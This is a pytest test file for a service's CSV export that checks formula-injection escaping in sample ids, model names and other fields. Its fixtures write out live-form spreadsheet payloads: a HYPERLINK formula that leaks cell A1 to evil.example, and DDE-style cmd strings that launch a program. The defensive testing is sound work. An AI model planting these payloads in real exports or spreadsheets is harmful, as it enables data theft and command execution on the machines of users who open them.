"""Issue 32 item 10: CSV formula injection. Sample ids, model names, versions, runtimes and errors that a
spreadsheet would run as formulas (``=HYPERLINK(...)``, ``+cmd``, ``@SUM``, ``-2+3``, tab- or CR-prefixed) come out
of the runs and samples downloads as quoted text with a leading single quote (OWASP); numbers, negative ones
included, stay unquoted numbers."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from fastapi.testclient import TestClient

from repliscope.report.csv_safe import FORMULA_STARTS, csv_lines, escape_cell
from tests.store.records import TOP1_A, make_record

RUN = "c5" * 16
HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
HOSTILE_IDS = [
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_escape_cell_prefixes_every_formula_start_and_leaves_numbers() -> None:
    for start in FORMULA_STARTS:
        assert escape_cell(f"{start}1+1") == f"'{start}1+1"
    assert escape_cell("imagenet_00_1.jpg") == "imagenet_00_1.jpg"
    assert escape_cell("'=already quoted") == "'=already quoted"
    assert (
        escape_cell(-0.25) == -0.25
        and escape_cell(-3) == -3
        and escape_cell(None) == ""
        and escape_cell(True) == "True"
    )


def test_csv_lines_quotes_text_and_writes_numbers_bare() -> None:
    text = csv_lines([["id", "top1", "delta"], ["=1+1", 0.5, -0.125], ['a "quoted" -b', -7, None]])
    assert text == ('"id","top1","delta"\n"\'=1+1",0.5,-0.125\n"a ""quoted"" -b",-7,""\n')
    rows = list(csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC))
    assert rows[1] == ["'=1+1", 0.5, -0.125] and rows[2] == ['a "quoted" -b', -7.0, ""]


@pytest.fixture
def hostile_run(service_app: Any) -> str:
    """A run whose model name, version, runtime, dataset, variant and sample ids / errors are formulas."""
    rec = make_record(RUN, TOP1_A)
    rec.manifest.name = "=cmd|' /C calc'!A0"
    rec.manifest.version = "+1.0.0"
    rec.runtime["runtime"] = "@SUM(A1:A9)"
    rec.dataset["name"] = "\tfoolbox"
    rec.variant = "-variant"
    for sample, sample_id in zip(rec.samples, HOSTILE_IDS, strict=False):
        sample.sample_id = sample_id
    rec.samples[6].error = '=HYPERLINK("https://evil.example")'
    service_app.state.store.save(rec)
    return RUN


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _no_formula_cell(rows: list[list[str]], raw: str) -> None:
    """No cell of the parsed table starts a formula, and no line of the raw text starts one unquoted."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), cell
    for line in raw.split("\n"):
        assert not line.startswith(FORMULA_STARTS), line


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_samples_download_escapes_hostile_sample_ids(
    client: TestClient, headers_for: Callable[[str], dict[str, str]], hostile_run: str
) -> None:
    r = client.get(f"/api/v1/runs/{hostile_run}/samples/export?format=csv", headers=headers_for("viewer"))
    assert r.status_code == 200, r.text
    rows = _cells(r.text)
    header, body = rows[0], rows[1:]
    ids = [row[header.index("sample_id")] for row in body]
    assert ids[: len(HOSTILE_IDS)] == ["'" + s for s in HOSTILE_IDS]
    assert body[6][header.index("error")] == '\'=HYPERLINK("https://evil.example")'
    _no_formula_cell(rows, r.text)
    # the raw line of the first sample: position a bare number, the id quoted with the leading quote
    assert r.text.splitlines()[1].startswith('0,"\'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")",')
    # the JSON download keeps the record's values as they are (JSON is not read as formulas)
    j = client.get(f"/api/v1/runs/{hostile_run}/samples/export?format=json", headers=headers_for("viewer")).json()
    assert j[0]["sample_id"] == HYPERLINK


def test_runs_download_escapes_hostile_names_and_keeps_numbers(
    client: TestClient, headers_for: Callable[[str], dict[str, str]], hostile_run: str
) -> None:
    r = client.get("/api/v1/runs/export?format=csv", headers=headers_for("viewer"))
    assert r.status_code == 200, r.text
    rows = _cells(r.text)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["manifest_name"] == "'=cmd|' /C calc'!A0"
    assert row["manifest_version"] == "'+1.0.0"
    assert row["runtime"] == "'@SUM(A1:A9)"
    assert row["dataset_name"] == "'\tfoolbox"
    assert row["variant"] == "'-variant"
    _no_formula_cell(rows, r.text)
    numbers = list(csv.reader(io.StringIO(r.text), quoting=csv.QUOTE_NONNUMERIC))[1]
    named = dict(zip(rows[0], numbers, strict=True))
    stored = client.get("/api/v1/runs", headers=headers_for("viewer")).json()["items"][0]
    assert named["num_samples"] == 20 and named["top1"] == stored["top1"] and isinstance(named["top1"], float)


def test_a_negative_number_stays_a_number() -> None:
    from repliscope.service.routers.runs import SAMPLE_COLUMNS, _csv_chunks

    row = dict.fromkeys(SAMPLE_COLUMNS)
    row.update(position=0, sample_id="-5", label=-1, top1=-2, top1_probability=-0.5)
    text = "".join(_csv_chunks(SAMPLE_COLUMNS, iter([[row]])))
    assert text.splitlines()[1].startswith('0,"\'-5",-1,-2,-0.5,')
